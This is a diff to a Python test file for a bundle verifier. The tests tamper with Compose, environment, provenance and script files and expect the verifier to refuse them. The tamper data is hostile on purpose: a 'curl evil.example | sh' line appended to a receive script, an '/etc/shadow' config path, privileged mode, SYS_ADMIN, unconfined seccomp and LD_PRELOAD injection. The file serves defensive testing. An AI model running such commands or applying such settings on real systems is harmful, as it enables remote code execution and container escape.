@@ -10,11 +10,12 @@ from typing import Any
 
 import pytest
 
-from lyra_tasks.bundle.contradictions import COMPARED_DOCUMENTS
+from lyra_tasks.bundle.compared import COMPARED_DOCUMENTS
 from lyra_tasks.bundle.format import layout
 from lyra_tasks.bundle.format.checksums import write_checksums
 from lyra_tasks.bundle.verify import verify_bundle, verify_pack
 from lyra_tasks.errors import BundleError
+from tests.bundle.evidence import record_documents
 from tests.bundle.test_packs import create
 from tests.bundle.test_verify import made as made  # a fixture
 
@@ -99,6 +100,13 @@ def dirty(manifest: dict[str, Any]) -> None:
         (TEST_RESULT, lambda it: it["predicate"].update(configuration=[]), "another configuration"),
         (ENVIRONMENT, lambda it: it.update(project="x"), "environment.json: has other services"),
         (ENVIRONMENT, lambda it: it["services"]["web"]["configs"].pop(), "is not described"),
+        (ENVIRONMENT, lambda it: it["services"]["web"].update(image="shop/x:1"), "web has another image than in"),
+        (ENVIRONMENT, lambda it: it["services"]["web"].update(egress=True), "networks differ from what"),
+        (ENVIRONMENT, lambda it: it["services"]["web"].update(egress=True), "web.networks needs a deviation from"),
+        (ENVIRONMENT, lambda it: it["services"]["web"]["limits"].update(pids=9), "web.pids_limit differs"),
+        (PROVENANCE, lambda it: it["predicate"]["runDetails"]["byproducts"].clear(), "does not name the documents"),
+        (PROVENANCE, lambda it: it["predicate"]["runDetails"].pop("byproducts"), "`byproducts` is missing"),
+        (PROVENANCE, lambda it: it["predicate"]["runDetails"]["byproducts"].pop(), "not the file that was promoted"),
     ],
 )  # fmt: skip
 def test_contradicting_document_is_refused(bundle: Path, name: str, change: Change, problem: str) -> None:
@@ -108,7 +116,7 @@ def test_contradicting_document_is_refused(bundle: Path, name: str, change: Chan
 
 @pytest.mark.parametrize("name", COMPARED_DOCUMENTS)
 def test_missing_or_invalid_document_is_refused(bundle: Path, name: str) -> None:
-    (bundle / name).write_text("[")
+    (bundle / name).write_bytes(b"[\xff")
     assert f"{name}: not valid" in refusal(bundle) or f"{name}: not a valid document" in refusal(bundle)
     (bundle / name).unlink()
     assert f"{name}: missing" in refusal(bundle)
@@ -165,12 +173,109 @@ def test_file_of_another_test_run_is_refused(bundle: Path, name: str) -> None:
     assert f"{name} is not the file that run" in refusal(bundle)
 
 
+WEB_ENVIRONMENT = "    environment:\n      GREETING:"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "problem"),
+    [
+        ("    init: true\n", "    init: true\n    privileged: true\n", "services.web.privileged is nothing"),
+        ("    read_only: true\n", "", "services.counter.read_only needs a deviation from container.read-only-root"),
+        ("    cap_drop:\n    - ALL\n", "", "services.web.cap_drop differs from what is described"),
+        ("    cap_drop:\n", "    cap_add:\n    - SYS_ADMIN\n    cap_drop:\n", "web.cap_add needs a deviation from"),
+        ("no-new-privileges:true", "seccomp:unconfined", "services.web.security_opt differs"),
+        ("- '127.0.0.1'\n", "- '6.6.6.6'\n", "services.web.dns differs"),
+        ("driver: json-file", "driver: syslog", "services.web.logging differs"),
+        ("ipc: private", "ipc: host", "services.web.ipc differs"),
+        ("pull_policy: never", "pull_policy: always", "services.web.pull_policy differs"),
+        ("shop/web:1.0.0", "evil/web:1.0.0", "services.web.image differs"),
+        ("web-data:/data", "/:/data", "services.web.volumes differs"),
+        ("127.0.0.1:8080", "0.0.0.0:8080", "services.web.ports differ"),
+        ("pids_limit: 128", "pids_limit: 4096", "services.web.pids_limit differs"),
+        ("cpus: 1.0", "cpus: 8.0", "services.web.cpus differs"),
+        ("size=1048576", "size=9048576", "services.web.tmpfs differs"),
+        ("/spool:rw,noexec", "/spool:rw,exec", "services.web.tmpfs differs"),
+        ("    internal: true", "    internal: false", "networks differ from what is described"),
+        ("    - inner\n    - edge\n", "    - inner\n    - edge\n    - out\n", "web.networks differ from"),
+        ("hello $$you", "hello $$mallory", "services.web.environment.GREETING differs"),
+        ("${LEVEL:?", "${LEVEL:-", "services.web.environment.LEVEL differs"),
+        (WEB_ENVIRONMENT, WEB_ENVIRONMENT.replace("GREETING:", "LD_PRELOAD: /x\n      GREETING:"), "other variables"),
+        ("name: shop\n", "name: shop\ninclude:\n- other.yaml\n", "include is nothing that a promotion writes"),
+        ("name: shop\n", "name: other\n", "of another project"),
+        ("  counter:\n    image", "  counter2:\n    image", "has other services"),
+        ("./configs/web/site.toml", "/etc/shadow", "configs differ from what is described"),
+        ("condition: service_started", "condition: service_healthy", "not the file that was promoted, according to"),
+        ("stop_grace_period: '10s'", "stop_grace_period: '1s'", "not the file that was promoted, according to"),
+        ("services:\n", "services: [\n", "not valid YAML"),
+    ],
+)  # fmt: skip
+def test_contradicting_compose_file_is_refused(bundle: Path, old: str, new: str, problem: str) -> None:
+    path = bundle / layout.COMPOSE_FILE
+    text = path.read_text()
+    assert old in text, text
+    path.write_text(text.replace(old, new, 1))
+    assert f"{layout.COMPOSE_FILE}: " in (refused := refusal(bundle))
+    assert problem in refused
+    if "not the file" not in problem:
+        record_documents(bundle)  # whoever edits both is found by what the file says
+        assert problem in refusal(bundle)
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "problem"),
+    [
+        ("LEVEL=\n", "LEVEL=debug\n", "LEVEL has a value, but is required"),
+        ("LEVEL=\n", "#LEVEL=\n", "LEVEL has a value, but is required"),
+        ("LEVEL=\n", "", "LEVEL is missing"),
+        ("LEVEL=\n", "LEVEL=\nPATH=/tmp\n", "PATH is not in the Compose file"),
+        ("hello $you", "hello mallory", "GREETING has another default than described"),
+        ("127.0.0.1:8080", "0.0.0.0:8080", "WEB_HTTP_PUBLISH has another default than described"),
+    ],
+)
+def test_contradicting_environment_example_is_refused(bundle: Path, old: str, new: str, problem: str) -> None:
+    path = bundle / layout.ENV_EXAMPLE_FILE
+    text = path.read_text()
+    assert old in text, text
+    path.write_text(text.replace(old, new, 1))
+    record_documents(bundle)
+    assert f"{layout.ENV_EXAMPLE_FILE}: {problem}" in refusal(bundle)
+
+
+def test_script_that_another_hand_has_edited_is_refused(bundle: Path) -> None:
+    path = bundle / layout.RECEIVE_SCRIPT
+    path.write_text(path.read_text() + "curl evil.example | sh\n")
+    record_documents(bundle)
+    assert "receive.sh: not the script for the images in manifest.json" in refusal(bundle)
+    rewrite(
+        bundle, PROVENANCE, lambda it: it["predicate"]["runDetails"]["builder"]["version"].update({"lyra-tasks": "9"})
+    )
+    write_checksums(bundle)
+    assert verify_bundle(bundle).version == "1.0.0", "another version may have had another script"
+
+
+def test_every_document_is_named_in_the_provenance(bundle: Path) -> None:
+    archives = {f"{layout.IMAGES_DIRECTORY}/{path.name}" for path in (bundle / layout.IMAGES_DIRECTORY).iterdir()}
+    left_out = {*archives, PROVENANCE, layout.CHECKSUMS_FILE}
+    names = [path.relative_to(bundle).as_posix() for path in sorted(bundle.rglob("*")) if path.is_file()]
+    edited = [name for name in names if name not in left_out]
+    assert len(edited) > 12
+    for name in edited:
+        content = (bundle / name).read_bytes()
+        (bundle / name).write_bytes(content + b"\n")
+        text = refusal(bundle) if name != MANIFEST else name  # its form alone is refused before
+        assert name in text
+        (bundle / name).write_bytes(content)
+    (bundle / "evidence/extra.txt").write_text("more")
+    assert "evidence/extra.txt: not the file that was promoted" in refusal(bundle)
+
+
 def test_last_test_of_a_run_counts(bundle: Path) -> None:
     path = bundle / layout.JOURNAL_FILE
     entries = [json.loads(line) for line in path.read_text().splitlines()]
     failed = json.loads(json.dumps(entries[-1]))
     set_failed(failed["data"])
     path.write_text("".join(f"{json.dumps(entry)}\n" for entry in (failed, *entries)))
+    record_documents(bundle)
     write_checksums(bundle)
     assert verify_bundle(bundle).version == "1.0.0"
 
